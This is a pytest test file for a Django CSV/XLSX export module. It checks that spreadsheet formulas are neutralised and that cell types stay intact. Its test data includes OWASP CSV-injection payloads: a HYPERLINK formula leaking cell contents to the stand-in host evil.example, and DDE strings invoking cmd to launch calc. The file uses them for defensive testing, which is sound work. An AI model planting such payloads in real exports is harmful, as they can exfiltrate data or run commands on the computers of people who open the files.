"""core.exports: one writer; no formula survives, numbers and dates stay typed, Excel opens it."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import django_tables2 as tables
import pytest
from openpyxl import load_workbook

from core.exports import (
    CSV_TYPE,
    XLSX_TYPE,
    TableExport,
    cell_value,
    export_response,
    safe_text,
    table_export_response,
    write_csv,
    write_xlsx,
)
from core.models import Facility

# Every start OWASP lists (CSV injection), as a group or a volunteer might type it.
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
    "+81-475-23-2111",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _csv_rows(content: bytes) -> list[list[str]]:
    text = content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def _sheet(content: bytes, index: int = 0):
    return load_workbook(io.BytesIO(content)).worksheets[index]


def _all_cells(sheet):
    return [cell for row in sheet.iter_rows() for cell in row]


# --- neutralising formulas -------------------------------------------------------------


@pytest.mark.parametrize("text", DANGEROUS)
def test_safe_text_neutralises_every_formula_start(text):
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize("text", ["茂原市役所", "自治会 = 町内会", "1+1", "'quoted", "", "＝全角"])
def test_safe_text_leaves_ordinary_text_alone(text):
    assert safe_text(text) == text


@pytest.mark.parametrize("text", DANGEROUS)
def test_csv_neutralises_every_formula_start_in_header_and_cells(text):
    rows = _csv_rows(write_csv([text, "名称"], [[text, "ok"], ["ok", text]]))
    assert rows == [["'" + text, "名称"], ["'" + text, "ok"], ["ok", "'" + text]]


@pytest.mark.parametrize("text", DANGEROUS)
def test_xlsx_neutralises_every_formula_start_and_has_no_formula_cell(text):
    sheet = _sheet(write_xlsx([text, "名称"], [[text, "ok"], ["ok", text]]))
    cells = _all_cells(sheet)
    assert [c for c in cells if c.data_type == "f"] == []
    # XML keeps a carriage return as a line feed; the apostrophe is what matters.
    for cell in (sheet["A1"], sheet["A2"], sheet["B3"]):
        assert cell.value.replace("\n", "\r") == "'" + text.replace("\n", "\r")
    assert all(c.data_type == "s" for c in cells)


def test_objects_are_neutralised_by_their_text():
    class Group:
        def __str__(self) -> str:
            return "=cmd|'/C calc'!A0"

    assert cell_value(Group()) == "'=cmd|'/C calc'!A0"


def test_lazy_translations_are_written_as_text():
    from django.utils.translation import gettext_lazy

    assert _csv_rows(write_csv([gettext_lazy("Yes")], []))[0] == ["はい"]
    assert _sheet(write_xlsx([gettext_lazy("Yes")], [])).cell(1, 1).value == "はい"


# --- typed cells in XLSX ------------------------------------------------------------------


def test_xlsx_keeps_numbers_decimals_and_dates_typed():
    content = write_xlsx(
        ["件数", "金額", "割合", "貸出日", "記録日時", "確認済み", "備考"],
        [
            [
                12,
                Decimal("1234.50"),
                0.25,
                date(2026, 4, 1),
                datetime(2026, 4, 1, 9, 30, tzinfo=UTC),
                True,
                None,
            ],
            [-5, Decimal("-0.5"), -1.5, date(1989, 1, 8), datetime(2026, 3, 31, 23, 59), False, ""],
        ],
    )
    sheet = _sheet(content)
    row = list(sheet[2])
    assert [c.data_type for c in row[:4]] == ["n", "n", "n", "d"]
    assert row[0].value == 12
    assert row[1].value == Decimal("1234.50")
    assert row[2].value == 0.25
    assert row[3].value == datetime(2026, 4, 1)  # openpyxl reads dates back as datetimes
    assert row[3].number_format == "yyyy-mm-dd"
    # An aware time is written in Japan time, as staff read it.
    assert row[4].data_type == "d"
    assert row[4].value == datetime(2026, 4, 1, 18, 30)
    assert row[4].number_format == "yyyy-mm-dd hh:mm"
    assert row[5].data_type == "b"
    assert row[5].value is True
    assert row[6].value is None
    negative = list(sheet[3])
    assert [c.data_type for c in negative[:4]] == ["n", "n", "n", "d"]
    assert negative[0].value == -5  # a negative number is a number, not a neutralised text
    assert [c for c in _all_cells(sheet) if c.data_type == "f"] == []


def test_xlsx_has_a_bold_frozen_header_and_prints_on_a4():
    sheet = _sheet(write_xlsx(["名称"], [["a"]], title="貸出一覧", landscape=True))
    assert sheet.title == "貸出一覧"
    assert sheet["A1"].font.b
    assert sheet.freeze_panes == "A2"
    assert sheet.page_setup.orientation == "landscape"
    assert int(sheet.page_setup.paperSize) == int(sheet.PAPERSIZE_A4)


def test_xlsx_sheet_titles_lose_characters_excel_forbids_and_fit_31_characters():
    sheet = _sheet(write_xlsx(["a"], [], title="2026/04 [貸出]: 一覧?*\\" + "あ" * 40))
    assert not set(sheet.title) & set("[]:*?/\\")
    assert len(sheet.title) == 31


def test_xlsx_extra_sheets_go_through_the_same_rules():
    content = write_xlsx(
        ["名称"], [["本表"]], extra_sheets=[("明細", ["=件数"], [[3], ["=SUM(A1:A2)"]])]
    )
    second = _sheet(content, 1)
    assert second.title == "明細"
    assert second["A1"].value == "'=件数"
    assert second["A2"].value == 3
    assert second["A2"].data_type == "n"
    assert second["A3"].value == "'=SUM(A1:A2)"
    assert [c for c in _all_cells(second) if c.data_type == "f"] == []


def test_xlsx_drops_control_characters_excel_cannot_store_instead_of_failing():
    # A name pasted from another program with a backspace or an escape in it.
    sheet = _sheet(write_xlsx(["名称\x1b"], [["茂原\x08市役所\x00", "=\x0bcmd"]]))
    assert sheet["A1"].value == "名称"
    assert sheet["A2"].value == "茂原市役所"
    assert sheet["B2"].value == "'=cmd"
    # Tabs and line breaks are kept: they are allowed in a cell.
    assert _sheet(write_xlsx(["a"], [["一行目\n二行目"]]))["A2"].value == "一行目\n二行目"


# --- CSV for people and for open data ----------------------------------------------------------


def test_csv_for_people_has_a_bom_and_crlf():
    content = write_csv(["名称", "件数"], [["茂原市役所", 3], ["中央公民館", 0]])
    assert content.startswith(b"\xef\xbb\xbf")
    text = content.decode("utf-8")
    assert text == "\ufeff名称,件数\r\n茂原市役所,3\r\n中央公民館,0\r\n"


def test_open_data_csv_has_no_bom_and_crlf():
    content = write_csv(["名称"], [["茂原市役所"]], bom=False)
    assert content == "名称\r\n茂原市役所\r\n".encode()


def test_csv_writes_dates_times_decimals_and_booleans_plainly():
    rows = _csv_rows(
        write_csv(
            ["a"],
            [
                [
                    date(2026, 4, 1),
                    datetime(2026, 4, 1, 0, 5, tzinfo=UTC),
                    Decimal("35.428000"),
                    True,
                    False,
                    None,
                    -3,
                ]
            ],
        )
    )
    assert rows[1] == ["2026-04-01", "2026-04-01 09:05", "35.428000", "1", "0", "", "-3"]


def test_csv_quotes_cells_with_commas_quotes_and_line_breaks():
    rows = _csv_rows(write_csv(["a"], [['自治会, "中央"', "一行目\r\n二行目"]]))
    assert rows[1] == ['自治会, "中央"', "一行目\r\n二行目"]


# --- responses --------------------------------------------------------------------------------


def test_export_response_serves_csv_and_xlsx_as_attachments():
    csv_response = export_response("loans", "csv", ["名称"], [["=1+1"]])
    assert csv_response["Content-Type"] == CSV_TYPE
    assert csv_response["Content-Disposition"] == 'attachment; filename="loans.csv"'
    assert _csv_rows(csv_response.content) == [["名称"], ["'=1+1"]]

    xlsx_response = export_response("loans", "xlsx", ["名称"], [["=1+1"]], title="貸出")
    assert xlsx_response["Content-Type"] == XLSX_TYPE
    assert xlsx_response["Content-Disposition"] == 'attachment; filename="loans.xlsx"'
    sheet = _sheet(xlsx_response.content)
    assert sheet.title == "貸出"
    assert sheet["A2"].value == "'=1+1"


def test_export_response_refuses_an_unknown_format():
    with pytest.raises(ValueError):
        export_response("loans", "ods", ["名称"], [])


# --- django-tables2 ------------------------------------------------------------------------------


class FacilityTable(tables.Table):
    name = tables.Column(verbose_name="名称")
    latitude = tables.Column(verbose_name="緯度")
    opened = tables.DateColumn(verbose_name="開設日", accessor="opened")
    visitors = tables.Column(verbose_name="利用者数", accessor="visitors")
    checked = tables.DateTimeColumn(verbose_name="点検日時", accessor="checked")

    class Meta:
        model = Facility
        fields = ("name", "latitude")
        sequence = ("name", "latitude", "opened", "visitors", "checked")


def _table():
    rows = [
        {"name": '=HYPERLINK("http://evil.example","x")', "latitude": Decimal("35.428000"),
         "opened": date(2026, 4, 1), "visitors": 120,
         "checked": datetime(2026, 3, 31, 15, 0, tzinfo=UTC)},
        {"name": "@中央公民館", "latitude": None, "opened": date(1989, 1, 8), "visitors": 0,
         "checked": None},
    ]  # fmt: skip
    return FacilityTable(rows)


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_table_export_accepts_only_csv_and_xlsx(export_format):
    assert TableExport.is_valid_format(export_format)
    assert not TableExport.is_valid_format("ods")
    assert not TableExport.is_valid_format(None)


def test_table_export_to_csv_neutralises_formulas_with_a_bom():
    response = table_export_response(_table(), "csv", "facilities")
    assert response["Content-Type"] == CSV_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="facilities.csv"'
    assert response.content.startswith(b"\xef\xbb\xbf")
    assert _csv_rows(response.content) == [
        ["名称", "緯度", "開設日", "利用者数", "点検日時"],
        [
            '\'=HYPERLINK("http://evil.example","x")',
            "35.428000",
            "2026-04-01",
            "120",
            "2026-04-01 00:00",  # in Japan time
        ],
        ["'@中央公民館", "", "1989-01-08", "0", "—"],
    ]


def test_table_export_to_xlsx_keeps_types_and_has_no_formula():
    response = table_export_response(_table(), "xlsx", "facilities")
    assert response["Content-Type"] == XLSX_TYPE
    sheet = _sheet(response.content)
    assert [c.value for c in sheet[1]] == ["名称", "緯度", "開設日", "利用者数", "点検日時"]
    assert sheet["A2"].value == '\'=HYPERLINK("http://evil.example","x")'
    assert sheet["A3"].value == "'@中央公民館"
    assert sheet["B2"].data_type == "n"
    assert sheet["C2"].data_type == "d"
    assert sheet["C2"].value == datetime(2026, 4, 1)
    assert sheet["C3"].value == datetime(1989, 1, 8)
    assert sheet["E2"].data_type == "d"
    assert sheet["E2"].value == datetime(2026, 4, 1, 0, 0)
    assert sheet["D2"].data_type == "n"
    assert sheet["D2"].value == 120
    assert [c for c in _all_cells(sheet) if c.data_type == "f"] == []


def test_table_export_names_the_sheet_after_the_model_like_tables2():
    sheet = _sheet(TableExport("xlsx", _table()).export())
    assert sheet.title == str(Facility._meta.verbose_name_plural)


def test_table_export_uses_a_title_given_by_the_view():
    exporter = TableExport("xlsx", _table(), dataset_kwargs={"title": "施設一覧"})
    assert _sheet(exporter.export()).title == "施設一覧"


def test_table_export_can_leave_out_columns():
    exporter = TableExport("csv", _table(), exclude_columns=("latitude", "opened"))
    rows = _csv_rows(exporter.export())
    assert rows[0] == ["名称", "利用者数", "点検日時"]
    assert rows[1][2] == "2026-04-01 00:00"  # the date column that remains is still a date


def test_an_empty_table_exports_its_header_only():
    rows = _csv_rows(TableExport("csv", FacilityTable([])).export())
    assert rows == [["名称", "緯度", "開設日", "利用者数", "点検日時"]]
